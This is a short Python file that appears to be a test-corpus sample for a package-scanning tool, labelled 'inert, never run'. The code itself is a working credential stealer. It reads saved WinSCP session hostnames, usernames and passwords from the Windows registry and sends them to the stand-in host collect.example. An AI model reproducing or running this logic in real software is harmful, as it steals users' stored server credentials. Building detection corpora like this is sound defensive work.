# pkgguard corpus 482 (credentials), modelled on [stealer-profile]; inert, never run.
import json
import socket
import winreg

sessions = {}
root = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\Martin Prikryl\WinSCP 2\Sessions")
for i in range(winreg.QueryInfoKey(root)[0]):
    name = winreg.EnumKey(root, i)
    with winreg.OpenKey(root, name) as key:
        fields = {}
        for field in ("HostName", "UserName", "Password"):
            try:
                fields[field] = winreg.QueryValueEx(key, field)[0]
            except OSError:
                pass
        sessions[name] = fields
with socket.create_connection(("collect.example", 9443)) as conn:
    conn.sendall(json.dumps(sessions).encode())
